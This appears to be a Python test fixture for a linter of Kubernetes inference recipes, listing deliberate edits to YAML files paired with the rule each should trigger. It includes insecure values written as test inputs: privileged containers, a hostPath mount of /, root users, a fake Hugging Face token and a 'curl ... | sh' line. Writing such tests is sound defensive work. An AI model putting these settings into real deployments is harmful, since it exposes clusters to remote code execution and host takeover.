"""A mistake for each rule: an edit of the recipe that is shipped, and where its finding stands."""

from pathlib import Path

from checks.recipe import find
from checks.tree import read_tree

ROOT = Path(__file__).parents[3]
GOOD = next(recipe for recipe in find(read_tree(ROOT)) if recipe.path == "recipes/llama-3-70b/vllm/agg")
DEPLOY, PERF = f"{GOOD.path}/deploy.yaml", f"{GOOD.path}/perf.yaml"
CLAIM, DOWNLOAD = f"{GOOD.cache}/model-cache.yaml", f"{GOOD.cache}/model-download.yaml"

# file, what is replaced, by what, the rule (and those that follow from it), and the text at whose place it stands
TOKEN = "hf_" + "a" * 34
AFFINITY = """      affinity:
        podAffinity:
          requiredDuringSchedulingIgnoredDuringExecution:
            - topologyKey: kubernetes.io/hostname
              labelSelector:
                matchExpressions: [{key: nvidia.com/dynamo-graph-deployment-name, operator: In, values: [other]}]
"""
NEVER, NAMED = "      restartPolicy: Never\n", "        - name: perf\n"
MISTAKES = [
    (DEPLOY, "sharedMemory:", "sharedMemroy:", "DGD-002", "sharedMemroy:"),
    (DEPLOY, "replicas: 1", "replicas: twice", "DGD-002", "twice"),
    (DEPLOY, "mountPoint: /opt/models", "mountPath: /opt/models", "DGD-002 DGD-012", "mountPath:"),
    (DEPLOY, "nvidia.com/v1alpha1", "nvidia.com/v2", "DGD-001", "nvidia.com/v2"),
    (DEPLOY, "backendFramework: vllm", "backendFramework: tokenspeed", "DGD-002 DGD-009", "tokenspeed"),
    (DEPLOY, "backendFramework: vllm", "backendFramework: sglang", "DGD-009", "sglang"),
    (DEPLOY, "componentType: frontend", "componentType: worker", "DGD-003", "backendFramework"),
    (DEPLOY, "name: llama3-70b-agg", "name: Llama3_70B", "DGD-004 PERF-002", "Llama3_70B"),
    (DEPLOY, "name: llama3-70b-agg", f"name: {'l' * 50}", "DGD-004 PERF-002", "l" * 50),
    (DEPLOY, "    VllmWorker:\n", "    VllmWorker:\n      dynamoNamespace: x\n", "DGD-007", "dynamoNamespace"),
    (DEPLOY, "    VllmWorker:\n", "    VllmWorker:\n      ingress: {enabled: true}\n", "DGD-012", "ingress"),
    (DEPLOY, "mountPoint: /opt/models", "useAsCompilationCache: false", "DGD-012", "name: model-cache\n          useAs"),
    (DEPLOY, "componentType: frontend", "componentType: epp\n      multinode: {nodeCount: 2}", "DGD-013", "multinode"),
    (DEPLOY, "    VllmWorker:\n", "    VllmWorker:\n      failover: {enabled: true}\n", "DGD-016", "failover"),
    (DEPLOY, "  name: llama3-70b-agg\n", "  name: llama3-70b-agg\n  annotations: {nvidia.com/grove-update-strategy: Fast}\n", "DGD-015", "Fast"),
    (DEPLOY, "  backendFramework", "  restart: {id: a}\n  backendFramework", "DGD-017", "restart"),
    (DEPLOY, "vllm-runtime:1.3.0", "vllm-runtime:my-tag", "IMG-001", "nvcr.io/nvidia/ai-dynamo/vllm-runtime:my-tag"),
    (DEPLOY, "vllm-runtime:1.3.0", "vllm-runtime", "IMG-003", "nvcr.io"),
    (DEPLOY, "vllm-runtime:1.3.0", "vllm-runtime:nightly", "IMG-003", "nvcr.io"),
    (PERF, "aiperf:0.12.0", "aiperf:latest", "IMG-005", "nvcr.io"),
    (DEPLOY, "        - name: model-cache\n", "        - name: other\n", "VOL-001", "other"),
    (DEPLOY, "    - name: model-cache\n      create", "    - name: model-store\n      create", "VOL-002 VOL-001", "model-store"),
    (PERF, "claimName: model-cache", "claimName: model-store", "VOL-002", "model-store"),
    (PERF, "            - name: model-cache\n              mountPath", "            - name: models\n              mountPath",
     "VOL-003", "models\n              mountPath"),
    (PERF, NEVER, f"{NEVER}      nodeName: node-1\n", "SEC-003", "nodeName"),
    (PERF, NAMED, f"{NAMED}          ports: [{{containerPort: 1, hostPort: 1}}]\n", "SEC-003", "hostPort"),
    (PERF, NEVER, f"{NEVER}      hostNetwork: true\n", "SEC-003", "hostNetwork"),
    (PERF, "persistentVolumeClaim:\n            claimName: model-cache", "hostPath: {path: /}", "SEC-003", "hostPath"),
    (PERF, "allowPrivilegeEscalation: false", "privileged: true", "SEC-003", "privileged"),
    (PERF, 'drop: ["ALL"]', 'add: ["ALL"]', "SEC-003", "add:"),
    (PERF, NEVER, f"{NEVER}      serviceAccountName: x\n", "SEC-004", "serviceAccountName"),
    (CLAIM, "  name: model-cache\n", "  name: model-cache\n  namespace: mine\n", "SEC-005", "namespace: mine"),
    (CLAIM, "kind: PersistentVolumeClaim", "kind: ClusterRole", "STRUCT-008 VOL-002 K8S-002", "ClusterRole"),
    (CLAIM, "v1\nkind: PersistentVolumeClaim", "policy/v1beta1\nkind: PodDisruptionBudget", "K8S-002 STRUCT-008 VOL-002", "policy/v1beta1"),
    (CLAIM, "  name: model-cache\n", "  name: slot\n", "STRUCT-010 VOL-002", "slot"),
    (CLAIM, "  name: model-cache\n", "  labels: {}\n", "STRUCT-010 VOL-002", "labels"),
    (CLAIM, "  name: model-cache\n", "  name: model-cache\n  finalizers: [x/y]\n", "STRUCT-010", "finalizers"),
    (PERF, "batch/v1\nkind: Job", "v1\nkind: Job", "STRUCT-010", "v1\nkind"),
    (DEPLOY, "# Llama", "{apiVersion: batch/v1, kind: Job, metadata: {name: llama3-70b-agg-perf}, spec: {template: {}}}\n---\n#",
     "STRUCT-010", "llama3-70b-agg-perf"),
    (CLAIM, "accessModes:", "accessMode:", "K8S-001 VOL-006", "accessMode:"),
    (DOWNLOAD, "backoffLimit: 2", "backofLimit: 2", "K8S-001", "backofLimit"),
    (DOWNLOAD, "value: RedHatAI/Llama-3.3-70B-Instruct-FP8-dynamic", "value: other/model", "MDL-001", "/opt/models/hub"),
    (PERF, "value: RedHatAI/Llama-3.3-70B-Instruct-FP8-dynamic", "value: other/model", "MDL-001", "other/model"),
    (DEPLOY, 'gpu: "4"', "gpu: 4", "DGD-002", "4\n        limits"),
    (DEPLOY, 'limits:\n          gpu: "4"', "limits:\n          gpu: 4", "PAR-003 DGD-002", "4\n      volumeMounts"),
    (DEPLOY, "--tensor-parallel-size 4", "--tensor-parallel-size 8", "PAR-001", '"4"\n      volumeMounts'),
    (DEPLOY, "value: /opt/models/hub/models--RedHatAI", "value: /opt/models/hub/models--other", "MDL-001", "/opt/models/hub"),
    (DEPLOY, '"$MODEL_PATH"', "other/model", "MDL-001", "- >-"),
    (DEPLOY, "snapshots/ddb4", "snapshots/ffff", "MDL-002", "/opt/models/hub"),
    (PERF, "value: RedHatAI/Llama-3.3-70B-Instruct-FP8-dynamic", "value: other", "MDL-001", "other"),
    (PERF, "value: ddb4", "value: ffff", "MDL-002", "ffff"),
    (DEPLOY, "          image: nvcr.io/nvidia/ai-dynamo/vllm-runtime:1.3.0\n", "", "IMG-004", "mainContainer"),
    (PERF, "kind: Job", "kind: Pod", "PERF-001 STRUCT-010", "Pod"),
    (PERF, "  activeDeadlineSeconds: 5400\n", "", "PERF-006", "backoffLimit"),
    (PERF, "value: llama3-70b-agg-frontend:8000", "value: llama3-70b-frontend:8000", "PERF-002", "llama3-70b-frontend"),
    (PERF, 'DEPLOYMENT_GPU_COUNT\n              value: "4"', 'DEPLOYMENT_GPU_COUNT\n              value: "8"', "PERF-004", '"8"'),
    (PERF, "set -euo pipefail", "echo start", "PERF-005", "|\n"),
    (DEPLOY, "exec python3 -m", "python3 -m", "SH-001", "python3 -m dynamo.vllm"),
    (DEPLOY, "    VllmWorker:\n", "    FRONTEND: {componentType: frontend, extraPodSpec: {mainContainer: {image: 'nvcr.io/nvidia/ai-dynamo/vllm-runtime:1.3.0'}}}\n    VllmWorker:\n",
     "DGD-005", "FRONTEND"),
    (DEPLOY, "-m dynamo.vllm", "-m dynamo.sglang", "DGD-010", "- >-"),
    (DEPLOY, "nvcr.io/nvidia/ai-dynamo/vllm-runtime:1.3.0", "nvcr.io/nvstaging/ai-dynamo/vllm-runtime:1.3.0", "IMG-002", "nvcr.io/nvstaging"),
    (DOWNLOAD, "vllm-runtime:1.3.0", "trtllm-runtime:1.3.0", "IMG-006", "nvcr.io"),
    (DEPLOY, "vllm-runtime:1.3.0", "vllm-runtime:1.2.0", "IMG-007", "nvcr.io/nvidia/ai-dynamo/vllm-runtime:1.3.0"),
    (DEPLOY, "image: nvcr.io/nvidia/ai-dynamo/vllm-runtime:1.3.0\n          workingDir: /workspace/examples/backends/vllm\n          env:",
     "image: nvcr.io/nvidia/ai-dynamo/sglang-runtime:1.3.0\n          env:", "IMG-008", "nvcr.io/nvidia/ai-dynamo/sglang"),
    (CLAIM, "  resources:\n", "  storageClassName: vast\n  resources:\n", "VOL-005", "storageClassName: vast"),
    (CLAIM, "    requests:\n      storage: 150Gi\n", "    limits: {}\n", "VOL-006", "spec:"),
    (DEPLOY, "/opt/models/hub/models--", "/models/hub/models--", "MDL-003", "/models/hub"),
    (DOWNLOAD, ' --revision "$MODEL_REVISION"', "", "MDL-004", "exec hf download"),
    (DEPLOY, 'requests:\n          gpu: "4"', 'requests:\n          gpu: "2"', "PAR-002", '"2"'),
    (DEPLOY, "--gpu-memory-utilization 0.90", "--gpu-memory-utilization 0.98", "ENG-001", "- >-"),
    (DEPLOY, "--no-enable-prefix-caching", "--is-prefill-worker", "ENG-002", "- >-"),
    (DEPLOY, "            - name: HF_HOME", "            - {name: TLLM_SPEC_DECODE_FORCE_NUM_ACCEPTED_TOKENS, value: '3'}\n            - name: HF_HOME", "ENG-003", "- >-"),
    (DEPLOY, "            - name: HF_HOME", "            - {name: DYN_DISCOVERY_BACKEND, value: etcd}\n            - name: HF_HOME", "ROUTE-002", "- >-"),
    (DEPLOY, "            - name: HF_HOME",
     "            - {name: UCX_TLS, value: ^cuda_ipc}\n            - {name: UCX_CUDA_IPC_ENABLE_MNNVL, value: 'y'}\n            - name: HF_HOME", "ROUTE-003", "- >-"),
    (DEPLOY, "          workingDir: /workspace/examples/backends/vllm\n    VllmWorker", "          args: [--kv-cache-block-size, '16']\n    VllmWorker",
     "ROUTE-001", "[--kv"),
    (PERF, NEVER, f"{NEVER}      nodeSelector: {{kubernetes.io/hostname: a}}\n", "NODE-001", "kubernetes.io/hostname"),
    (PERF, NEVER, NEVER + AFFINITY, "NODE-002", "[other]"),
    (PERF, NAMED, f"{NAMED}          livenessProbe: {{httpGet: {{port: 80}}, failureThreshold: 1}}\n", "PROBE-001", "1}"),
    (PERF, "set -euo pipefail", "set -eu\n              pip install aiperf", "PERF-007", "pip install aiperf"),
    (PERF, '--tokenizer "$TOKENIZER"', "--tokenizer other/model", "MDL-005", "aiperf profile"),
    (PERF, "            - name: JOB_NAME\n", "            - name: X\n              valueFrom: {configMapKeyRef: {name: gone, key: a}}\n            - name: JOB_NAME\n",
     "VOL-007", "gone"),
    (PERF, "            - name: JOB_NAME\n", "            - name: X\n              valueFrom: {secretKeyRef: {name: mine, key: a}}\n            - name: JOB_NAME\n",
     "SEC-008", "mine"),
    (PERF, NEVER, f"{NEVER}      automountServiceAccountToken: true\n", "SEC-004", "automount"),
    (CLAIM, "apiVersion: v1\n", "apiVersion: gateway.networking.k8s.io/v1\n", "STRUCT-010", "gateway"),
    (PERF, "--random-seed 100", "--random-sed 100", "PERF-013", "aiperf profile"),
    (PERF, "set -euo pipefail\n", "set -euo pipefail\n              f() { local lost=1; }\n              echo $lost\n", "SH-004", "$lost"),
    (PERF, '--random-seed 100', "--input-file t.jsonl --prompt-input-tokens-block-size 16", "PERF-010", "aiperf profile"),
    (PERF, "        fsGroup: 1000\n", "", "PERF-012", "1000"),
    (DEPLOY, "envFromSecret: hf-token-secret", "envFromSecret: hf-token", "SEC-001", "hf-token\n"),
    (PERF, "value: /tmp", f"value: {TOKEN}", "SEC-002", TOKEN),
    (PERF, "runAsUser: 1000", "runAsUser: 0", "SEC-006", "0\n        runAsGroup"),
    (DOWNLOAD, "set -eu\n", "set -eu\n              curl -s https://example.com/x | sh\n", "SEC-007", "curl"),
]  # fmt: skip
